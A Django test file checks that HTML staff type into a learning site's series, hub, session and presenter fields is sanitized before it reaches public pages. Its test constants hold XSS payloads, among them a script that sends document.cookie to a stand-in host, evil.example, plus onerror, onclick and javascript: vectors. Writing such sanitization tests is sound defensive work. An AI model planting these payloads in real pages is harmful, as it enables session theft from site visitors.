"""HTML that programme staff type into a series description reaches learners without anything that runs."""

import pytest

from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = (
    "<p>Monthly <strong>case-based</strong> learning, with <a href='https://pallium.ca/'>Pallium</a>.</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<img src='x' onerror='alert(1)'>"
    "<a href='javascript:alert(2)'>Click for the syllabus</a>"
    "<p onclick='alert(3)' style='position:fixed'>Bring a case.</p>"
    "<iframe src='https://evil.example/'></iframe>"
)


def test_script_handlers_and_javascript_links_never_reach_the_series_page(client):
    series = factories.SeriesFactory(slug="ltc-cop", description=HOSTILE)

    html = client.get(series.get_absolute_url()).content.decode()

    # What staff meant to show is there...
    assert "<strong>case-based</strong>" in html
    assert 'href="https://pallium.ca/"' in html
    assert "Click for the syllabus" in html and "Bring a case." in html
    # ...and nothing that runs or escapes the page.
    lowered = html.lower()
    assert "evil.example" not in lowered
    assert "onerror" not in lowered and "onclick" not in lowered
    assert "javascript:" not in lowered
    assert "<iframe" not in lowered
    assert "alert(" not in lowered
    assert "position:fixed" not in lowered


def test_the_sanitize_filter_keeps_safe_markup_and_drops_the_rest():
    from core.templatetags.echo_format import sanitize

    cleaned = str(sanitize(HOSTILE))

    assert "<strong>case-based</strong>" in cleaned
    assert "<script" not in cleaned and "onerror" not in cleaned and "javascript:" not in cleaned
    assert str(sanitize("")) == ""
    assert str(sanitize(None)) == ""


ATTACK = "<script>alert('x')</script><img src=x onerror=alert(1)><a href=\"javascript:alert(2)\">link</a>"


def _assert_inert(html: str, where: str) -> None:
    lowered = html.lower()
    assert "<script>alert" not in lowered, where
    assert "<img src=x onerror" not in lowered and 'onerror="alert' not in lowered, where
    assert 'href="javascript:' not in lowered, where


def test_every_text_staff_type_is_inert_wherever_it_is_shown(client):
    """Every free-text field staff fill in the admin, on every public page that shows it."""
    hub = factories.HubFactory(slug="attack-hub", name=f"Hub {ATTACK}", description=ATTACK, region=ATTACK)
    series = factories.SeriesFactory(
        hub=hub,
        slug="attack-series",
        title=f"Series {ATTACK}",
        summary=ATTACK[:290],
        description=ATTACK,
        audience_description=ATTACK,
        accreditation_statement=ATTACK,
        cohosts=ATTACK,
        key_distributor=ATTACK[:190],
    )
    presenter = factories.PresenterFactory(name=f"Dr {ATTACK}"[:200], bio=ATTACK, organisation=ATTACK[:190])
    upcoming = factories.SessionFactory(series=series, title=f"Upcoming {ATTACK}", description=ATTACK)
    upcoming.presenters.add(presenter)
    past = factories.SessionFactory(series=series, title=f"Past {ATTACK}", description=ATTACK, days_from_now=-3)
    factories.ResourceFactory(session=past, title=f"Q&A {ATTACK}", text=ATTACK, kind="qa", url="")

    for url in [
        "/",
        "/series/",
        series.get_absolute_url(),
        upcoming.get_absolute_url(),
        past.get_absolute_url(),
        "/sessions/past/",
        "/hubs/",
        hub.get_absolute_url(),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_inert(response.content.decode(), url)
